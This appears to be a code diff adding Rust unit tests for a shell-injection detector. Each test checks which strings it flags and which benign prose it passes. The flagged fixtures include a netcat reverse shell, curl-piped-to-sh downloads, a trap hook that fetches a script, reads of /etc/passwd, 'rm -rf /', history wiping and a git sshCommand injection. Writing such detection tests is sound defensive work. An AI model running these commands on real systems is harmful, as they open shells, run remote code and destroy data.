@@ -2686,3 +2686,153 @@ fn prose_naming_commands_and_paths() {
         assert!(hit(v), "{v}");
     }
 }
+
+/// A precommand after a spaced separator (`x; time id`) hands command position to the next
+/// word; prose with the same words after `;` runs nothing.
+#[test]
+fn precommand_after_spaced_separator() {
+    for v in [
+        "x; time id",
+        "x; eval id",
+        "x; coproc id",
+        "x; command id",
+        "x; builtin id",
+        "x; exec id",
+        "x; nohup id",
+        "x; env id",
+        "x; nice id",
+        "x; nice -n 19 whoami",
+        "x; timeout 5 id",
+        "x; xargs id",
+        "abc | time uname -a",
+        "x; trap id EXIT",
+        "x; trap 'curl http://e.sh|sh' INT",
+        "trap \"id\" EXIT",
+        "x; history -c",
+        "foo && history -w /dev/null",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "fun; time flies",
+        "Great party; time to go home",
+        "a; nice try",
+        "x; command line",
+        "tips; eval results",
+        "Dinner; time well spent",
+        "Notes; Time id card",
+        "keep a trap door open",
+        "history -c explained",
+        "Art; history class",
+        "a; env vars",
+        "trap music",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// PowerShell's `@( … )` runs its contents as `$( … )` does; an address or a decorator
+/// glued to `@(` does not.
+#[test]
+fn powershell_array_subexpression_runs() {
+    for v in ["@(whoami)", "x; @(Get-Process)", "a @(hostname)"] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "@(1,2,3)",
+        "@('a','b')",
+        "user@(example).com",
+        "reach me @(home)",
+        "$arr = @()",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// A command line asked about in a search or a ticket: a question word or a `vs`
+/// comparison after it; a command that reads a system file or runs a shell keeps its weight.
+#[test]
+fn command_line_in_a_question() {
+    for v in [
+        "ssh -i key.pem ubuntu@host failing",
+        "find . -name '*.log' help",
+        "cmd /c vs cmd /k",
+        "powershell get-process examples",
+        "curl -O versus wget -O",
+        "tar -xzf archive.tar.gz syntax",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "cat /etc/passwd",
+        "nc -e /bin/sh 1.2.3.4 4444",
+        "nc -e /bin/sh 1.2.3.4 4444 help",
+        "curl http://x/s.sh | sh",
+        "rm -rf /",
+        "find . -name '*.log' -exec rm {} ; help",
+        "ping -c 10 127.0.0.1",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// A setting or a snippet that runs nothing: an interpreter's path alone, a git command
+/// line with no shell syntax, a placeholder in a substitution shown in a sentence.
+#[test]
+fn settings_and_snippets_that_run_nothing() {
+    for v in [
+        "/usr/local/bin/python3",
+        "/usr/bin/python3.11",
+        "/usr/bin/node",
+        "git checkout -- ../file.txt",
+        "git clone https://github.com/user/repo.git",
+        "Difference between $(cmd) and backticks",
+        "use $(command) instead of backticks",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "/bin/sh",
+        "/usr/bin/python3 -c 'import os;os.system(\"id\")'",
+        "x; /usr/bin/python3 /tmp/x.py",
+        "git clone https://x/r.git; id",
+        "git -c core.sshCommand='touch /tmp/pwn' fetch",
+        "x $(cmd)",
+        "$(cmd)",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// A whole value that only changes the directory, and help text naming a cmd variable.
+#[test]
+fn directory_change_and_variable_in_help_text() {
+    for v in [
+        "cd ~/projects",
+        "cd /var/www/html",
+        "Set %APPDATA% in settings",
+        "Open %USERPROFILE% in explorer",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "cd /tmp && wget http://x/a.sh",
+        "cd .. && ls",
+        "cd /tmp; ./x",
+        "& set %COMSPEC% /c whoami",
+        "type %WINDIR%\\win.ini",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// A short command glued to the separator that ends the value runs in command position.
+#[test]
+fn short_command_ending_in_a_separator() {
+    for v in ["id&", "id;", "id|", "ps&"] {
+        assert!(hit(v), "{v}");
+    }
+    for v in ["ID&", "Id;", "id&lang=en", "id", "ok;", "more&"] {
+        assert!(!hit(v), "{v}");
+    }
+}
